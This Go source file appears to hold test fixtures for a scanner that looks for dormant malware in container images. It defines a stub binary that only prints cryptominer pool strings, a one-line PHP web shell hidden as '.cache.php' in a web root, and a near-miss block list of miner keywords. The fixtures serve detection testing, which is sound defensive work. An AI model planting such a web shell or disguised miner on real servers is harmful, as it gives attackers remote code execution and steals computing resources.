package samples

import (
	"runtime"

	"github.com/sallyport-dev/sallyport/internal/tinyelf"
)

// dormant is what lies in an image and is not run.
func dormant() []Sample {
	with := func(files map[string]string) Spec {
		spec := script("echo ready\n")
		for name, content := range files {
			spec.Files[name] = content
		}
		return spec
	}
	words := "stratum+tcp://pool.example.test:3333 donate-level randomx mining.authorize"
	// A program that says the words of a miner and does nothing else.
	miner, err := tinyelf.Hello(runtime.GOARCH, words)
	if err != nil {
		panic(err)
	}
	return []Sample{
		shows("dormant-malware/miner", with(map[string]string{"/usr/lib/.cache/kworker": string(miner)}), bad, "/usr/lib/.cache/kworker", "miner-pool-uri"),
		shows("dormant-malware/web-shell", with(map[string]string{"/var/www/html/.cache.php": "<?php @eval($_POST['c']); ?>\n"}), harmless, "/var/www/html/.cache.php", "eval($_POST["),
		nearly("dormant-malware/block-list", with(map[string]string{
			"/etc/proxy/blocked": words + "\n", "/usr/bin/refresh-list": "#!/bin/sh\nwget -q -O /etc/proxy/blocked http://lists.example.test/stratum+tcp://\n",
		})),
	}
}
